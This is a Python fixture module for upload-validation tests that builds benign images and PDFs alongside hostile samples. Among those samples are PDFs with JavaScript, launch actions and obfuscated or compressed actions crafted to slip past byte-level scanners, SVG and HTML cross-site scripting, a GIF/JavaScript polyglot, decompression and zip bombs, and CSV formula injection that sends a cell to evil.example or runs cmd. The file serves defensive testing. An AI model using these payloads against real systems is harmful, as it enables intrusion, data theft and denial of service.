"""Files for upload tests, made in the test: real ones that must be accepted and the
hostile kinds that must be refused or neutralized."""

import io
import zipfile

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

GPS_IFD = 0x8825


def png_bytes(size=(64, 48)) -> bytes:
    output = io.BytesIO()
    Image.new("RGB", size, (11, 93, 75)).save(output, "PNG")
    return output.getvalue()


def jpeg_with_gps(size=(320, 240)) -> bytes:
    image = Image.new("RGB", size, (200, 120, 40))
    exif = Image.Exif()
    exif[0x010F] = "CameraMaker"
    exif[GPS_IFD] = {1: "N", 2: (37.0, 3.0, 0.0), 3: "E", 4: (41.0, 13.0, 0.0)}
    output = io.BytesIO()
    image.save(output, "JPEG", exif=exif)
    return output.getvalue()


def pdf_bytes(active: DictionaryObject | None = None, *, key: str = "") -> bytes:
    """A one-page PDF; with `active`, that dictionary is set under `key` of the catalog."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    if active is not None:
        writer._root_object[NameObject(key)] = active
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def pdf_with_javascript() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_js("app.alert('hello');")
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def pdf_with_open_action() -> bytes:
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/URI"),
            NameObject("/URI"): TextStringObject("https://evil.example/"),
        }
    )
    return pdf_bytes(action, key="/OpenAction")


def pdf_with_additional_actions() -> bytes:
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/URI"),
            NameObject("/URI"): TextStringObject("https://evil.example/"),
        }
    )
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def pdf_with_launch() -> bytes:
    launch = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
    )
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([]),
            NameObject("/A"): launch,
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def pdf_with_embedded_file() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_attachment("payload.exe", b"MZ\x90\x00")
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def pdf_with_escaped_name() -> bytes:
    """/JavaScript written as /J#61vaScript: a byte search for "/JavaScript" misses it."""
    source = (
        b"%PDF-1.7\n"
        b"1 0 obj<</Type/Catalog/Pages 2 0 R/Names<</J#61vaScript 4 0 R>>>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n"
        b"4 0 obj<</Names[(x) 5 0 R]>>endobj\n"
        b"5 0 obj<</S/J#61vaScript/J#53 (app.alert(1))>>endobj\n"
    )
    return _with_xref(source, objects=5)


def pdf_with_action_in_object_stream() -> bytes:
    """Objects 1-4 live in a Flate-compressed object stream (object 5), found through a
    cross-reference stream (object 6): the catalog's /OpenAction and the JavaScript action
    are nowhere readable in the file's bytes."""
    import struct
    import zlib

    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
        b"<</S/JavaScript/JS(app.alert(1))>>",
    ]
    offsets, body = [], b""
    for item in objects:
        offsets.append(len(body))
        body += item + b"\n"
    header = b" ".join(f"{n + 1} {o}".encode() for n, o in enumerate(offsets)) + b"\n"
    stream = zlib.compress(header + body)
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    stream_offset = len(out)
    out += (
        b"5 0 obj<</Type/ObjStm/N 4/First %d/Filter/FlateDecode/Length %d>>stream\n"
        % (len(header), len(stream))
        + stream
        + b"\nendstream\nendobj\n"
    )
    xref_offset = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 2, 5, index) for index in range(4)]
    rows += [struct.pack(">BIH", 1, stream_offset, 0), struct.pack(">BIH", 1, xref_offset, 0)]
    xref = zlib.compress(b"".join(rows))
    out += (
        b"6 0 obj<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>stream\n"
        % len(xref)
        + xref
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return out


def _with_xref(source: bytes, *, objects: int) -> bytes:
    offsets = []
    position = 0
    for line in source.split(b"\n"):
        if line.split(b" ", 1)[0].isdigit() and b" obj" in line[:12]:
            offsets.append(position)
        position += len(line) + 1
    xref_offset = len(source)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (objects + 1)
    table += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    trailer = b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        objects + 1,
        xref_offset,
    )
    return source + table + trailer


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(document.cookie)</script></svg>"
    )


def html_page() -> bytes:
    return b"<!doctype html><html><body><script>alert(document.domain)</script></body></html>"


def gif_js_polyglot() -> bytes:
    """Starts "GIF89a/*" (a width of 10799 pixels) and ends "*/=alert(1);": an image to
    Pillow, a script to a browser that runs it."""
    output = io.BytesIO()
    Image.new("P", (0x2A2F, 1)).save(output, "GIF")
    data = b"GIF89a" + output.getvalue()[6:]  # Pillow may write the 87a header
    assert data.startswith(b"GIF89a/*")
    return data + b"*/=alert(document.domain);"


def decompression_bomb_png() -> bytes:
    output = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(output, "PNG")
    return output.getvalue()


def huge_declared_size_png() -> bytes:
    """A valid-looking PNG header claiming 100,000 × 100,000 pixels, with almost no data."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


def truncated_jpeg() -> bytes:
    data = jpeg_with_gps()
    return data[: len(data) // 2]


def xlsx_zip_bomb() -> bytes:
    """A workbook whose sheet expands to 200 MB of zeros (about 200 KB on disk)."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            block = b"\x00" * (1024 * 1024)
            for _ in range(200):
                sheet.write(block)
    return output.getvalue()


def csv_with_formulas() -> bytes:
    return (
        b"Name (English),Website,Emails\n"
        b'"=HYPERLINK(""https://evil.example/?""&A1,""click"")",,\n'
        b"@SUM(1+1)*cmd|' /C calc'!A0,,\n"
        b"Qamishlo Teachers Union,https://teachers.example,office@teachers.example\n"
    )


def elf_executable() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
